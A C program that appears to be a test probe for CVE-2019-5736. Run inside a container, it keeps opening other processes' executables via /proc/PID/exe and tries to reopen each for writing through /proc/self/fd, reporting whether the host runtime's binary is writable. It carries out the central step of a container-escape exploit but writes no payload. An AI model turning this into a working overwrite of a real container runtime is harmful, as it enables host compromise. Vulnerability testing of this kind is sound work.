/*
 * A container's first process that tries to write to whatever program others run from (CVE-2019-5736): it opens
 * /proc/PID/exe of every process but itself, and itself under other names, and tries to open each for writing through
 * /proc/self/fd. Prints a line for each new answer, and "ready" once it has begun; runs until it is killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char seen[64][96];
static int seen_count;

static void tell(const char *line) {
    for (int i = 0; i < seen_count; i++)
        if (strcmp(seen[i], line) == 0) return;
    if (seen_count < 64) strncpy(seen[seen_count++], line, sizeof(seen[0]) - 1);
    printf("%s\n", line);
    fflush(stdout);
}

/* A program of the image's own may be written to, and is none of the runtime's. */
static int is_own(int held) {
    struct stat program, own;
    const char *names[] = {"/bin/busybox", "/bin/overwrite"};
    if (fstat(held, &program) < 0) return 1;
    for (int i = 0; i < 2; i++)
        if (stat(names[i], &own) == 0 && own.st_ino == program.st_ino && own.st_dev == program.st_dev) return 1;
    return 0;
}

static void attack(int pid) {
    char path[64], line[96];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int held = open(path, O_RDONLY | O_CLOEXEC);
    if (held < 0) return;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    /* Held while the process goes on to its own program, when nobody executes the file any more. */
    for (int try = 0; try < 50 && !is_own(held); try++) {
        int fd = open(path, O_WRONLY);
        snprintf(line, sizeof(line), "foreign program: %s", fd >= 0 ? "OPENED" : strerrorname_np(errno));
        tell(line);
        if (fd >= 0) close(fd);
    }
    close(held);
}

int main(void) {
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
            int pid = atoi(entry->d_name);
            if (pid > 1) attack(pid);
        }
        if (proc != NULL) closedir(proc);
    }
}
